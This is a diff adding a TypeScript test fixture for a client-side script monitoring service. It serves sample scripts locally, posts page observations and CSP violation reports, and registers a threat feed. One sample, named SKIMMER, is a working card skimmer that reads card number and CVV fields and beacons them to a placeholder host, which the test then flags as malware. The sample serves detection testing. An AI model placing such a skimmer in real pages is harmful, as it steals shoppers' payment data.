@@ -1,0 +1,198 @@
+// A monitored zone: scripts of every kind with real scores, connections, cookies, frames, code, and a threat feed.
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Api } from '../browsers/api.ts'
+import { until } from '../browsers/site.ts'
+import type { Target } from '../program.ts'
+
+export const MONITORED_ZONE = 'monitored.example'
+const WWW = `https://www.${MONITORED_ZONE}`
+/** Makes fetching from this machine possible, and slow sites no reason to wait. */
+export const FETCHES = ['--script-fetches', '2', '--fetch-networks', '127.0.0.0/8', '--fetch-ports', 'any']
+
+const SKIMMER = `document.querySelector('#card').addEventListener('input', () => {
+  const card = document.querySelector('input[name=cardnumber]').value + '|' + document.querySelector('input[name=cvv]').value
+  navigator.sendBeacon('https://collect.stats-cdn.example/g', btoa(card))
+})`
+const CLICKS = `addEventListener('click', (event) => fetch('https://stats.example.net/p', { method: 'POST',
+  body: JSON.stringify({ x: event.clientX, u: location.href, a: navigator.userAgent }) }))`
+const CONTENTS: Readonly<Record<string, string>> = {
+  '/v3/loader.js': SKIMMER,
+  '/assets/app.7f3c1.js': 'export const add = (a, b) => a + b; console.log(add(1, 2))',
+  '/assets/a-very-long-name-of-a-bundle-that-nobody-would-type.02ab9c77d1e0.js':
+    'window.vendor = { version: 3 }',
+  '/p.js': CLICKS,
+}
+
+export async function addMonitoring(api: Api, target: Target): Promise<void> {
+  const { id } = await api.post<{ id: string }>('/zones', { name: MONITORED_ZONE })
+  await api.call('PUT', `/zones/${id}/page_shield`, { enabled: true })
+  const own = `/zonereeve/zones/${id}/page_shield`
+  await api.call('PUT', `${own}/sampling`, {
+    also_report: ['frames', 'images', 'forms', 'inline', 'eval'],
+    whole_paths: ['/checkout'],
+  })
+  const origin = await serveScripts()
+  await observe(api, own, origin)
+  await sendReports(api, own, target)
+  await addFeed(api, target)
+  await until(
+    async () => {
+      const scripts = await api.get<readonly { fetched_at: string | null }[]>(
+        `/zones/${id}/page_shield/scripts?urls=127.0.0.1`,
+      )
+      return (
+        scripts.length === Object.keys(CONTENTS).length && scripts.every((one) => one.fetched_at !== null)
+      )
+    },
+    () => 'the scripts of the monitored zone were not fetched',
+  )
+}
+
+/** Ends with the process. @returns its origin. */
+async function serveScripts(): Promise<string> {
+  const server = createServer(({ url = '' }, reply) => {
+    const content = CONTENTS[url]
+    reply.writeHead(content === undefined ? 404 : 200, { 'content-type': 'text/javascript' }).end(content)
+  })
+  server.unref()
+  await once(server.listen(0, '127.0.0.1'), 'listening')
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}` // it listens on a port
+}
+
+/** Three page views make a resource active. */
+async function observe(api: Api, own: string, origin: string): Promise<void> {
+  const scripts = Object.keys(CONTENTS).map((path) => `${origin}${path}`)
+  const views = [
+    { page_url: `${WWW}/checkout`, scripts, connections: ['https://collect.stats-cdn.example'] },
+    { page_url: `${WWW}/`, scripts: scripts.slice(1), connections: ['https://api.pay.example'] },
+    { page_url: `${WWW}/shop/cart`, scripts: scripts.slice(2) },
+  ]
+  const observations = [...views, ...views, ...views].map((view) => ({
+    ...view,
+    set_cookie: [
+      'session=1; Path=/; Secure; HttpOnly; SameSite=Lax',
+      'theme=1; Path=/; Max-Age=31536000; SameSite=None',
+    ],
+    cookie: '_ga=1; session=1',
+  }))
+  await api.post(`${own}/observations`, { observations })
+  const seldom = {
+    page_url: `${WWW}/help`,
+    scripts: ['https://beta.widgets.example/chat.js?v=weekly&callback=init'],
+    connections: ['wss://live.widgets.example:8443'],
+  }
+  await api.post(`${own}/observations`, { observations: [seldom] })
+}
+
+interface Headers {
+  readonly headers: readonly { readonly value: string; readonly policy_id: string | null }[]
+}
+
+/** The address that browsers send reports of a page to, without its host. @param policyId null = monitoring's. */
+export async function reportPath(
+  api: Api,
+  own: string,
+  page: string,
+  policyId: string | null,
+): Promise<string> {
+  const { headers } = await api.get<Headers>(`${own}/headers?url=${encodeURIComponent(page)}`)
+  const found = headers.find(({ policy_id: id }) => id === policyId)
+  const [, uri] = /report-uri ([^;\s]+)/.exec(found?.value ?? 'none') ?? [] // no header, no address
+  if (uri === undefined) throw new Error(`no address for reports of ${page}`)
+  const { pathname, search } = new URL(uri)
+  return `${pathname}${search}`
+}
+
+/** A report as a browser sends it. @param visitor tells page views apart. */
+export async function sendReport(
+  { http }: Target,
+  path: string,
+  report: Readonly<Record<string, string | number>>,
+  visitor: string,
+): Promise<void> {
+  const reply = await fetch(http + path, {
+    method: 'POST',
+    headers: { 'content-type': 'application/csp-report', 'user-agent': visitor },
+    body: JSON.stringify({ 'csp-report': report }),
+  })
+  if (!reply.ok) throw new Error(`the collector answered ${reply.status}`)
+}
+
+const LOADS = [
+  { 'effective-directive': 'frame-src', 'blocked-uri': 'https://js.pay.example' },
+  { 'effective-directive': 'img-src', 'blocked-uri': 'https://pixel.ads.example' },
+  { 'effective-directive': 'form-action', 'blocked-uri': `${WWW}/order` },
+  {
+    'effective-directive': 'script-src-elem',
+    'blocked-uri': 'inline',
+    'script-sample': 'window.dataLayer = window.dataLayer || []',
+    'line-number': 14,
+    'source-file': `${WWW}/checkout`,
+  },
+  {
+    'effective-directive': 'script-src-attr',
+    'blocked-uri': 'inline',
+    'script-sample': 'pay(this)',
+    'line-number': 88,
+    'source-file': `${WWW}/checkout`,
+  },
+  {
+    'effective-directive': 'script-src',
+    'blocked-uri': 'eval',
+    'script-sample': 'return a + b',
+    'line-number': 3,
+    'source-file': `${WWW}/assets/app.js`,
+  },
+]
+
+async function sendReports(api: Api, own: string, target: Target): Promise<void> {
+  const page = `${WWW}/checkout`
+  const path = await reportPath(api, own, page, null)
+  for (const visitor of ['a', 'b', 'c'])
+    for (const load of LOADS)
+      await sendReport(target, path, { 'document-uri': page, disposition: 'report', ...load }, visitor)
+  // What the collector drops, and counts.
+  await sendReport(
+    target,
+    path,
+    {
+      'document-uri': page,
+      'effective-directive': 'script-src-elem',
+      'blocked-uri': 'chrome-extension://abcdef/inject.js',
+    },
+    'a',
+  )
+  await sendReport(
+    target,
+    path,
+    {
+      'document-uri': 'https://elsewhere.example/',
+      'effective-directive': 'script-src-elem',
+      'blocked-uri': 'https://a.example/a.js',
+    },
+    'a',
+  )
+}
+
+async function addFeed(api: Api, { http, token }: Target): Promise<void> {
+  const feed = await api.post<{ id: string }>('/zonereeve/threat_feeds', {
+    name: 'Own list',
+    format: 'plain',
+    categories: ['Malware'],
+  })
+  const reply = await fetch(`${http}/client/v4/zonereeve/threat_feeds/${feed.id}/entries`, {
+    method: 'PUT',
+    headers: { authorization: `Bearer ${token}`, 'content-type': 'text/plain' },
+    body: 'stats-cdn.example\n',
+  })
+  if (!reply.ok) throw new Error(`the entries were refused: ${await reply.text()}`)
+  await api.post('/zonereeve/threat_feeds', {
+    name: 'URLhaus',
+    format: 'urlhaus',
+    url: 'https://urlhaus.abuse.example/downloads/csv_recent/',
+    interval_minutes: 60,
+    enabled: false,
+  })
+}
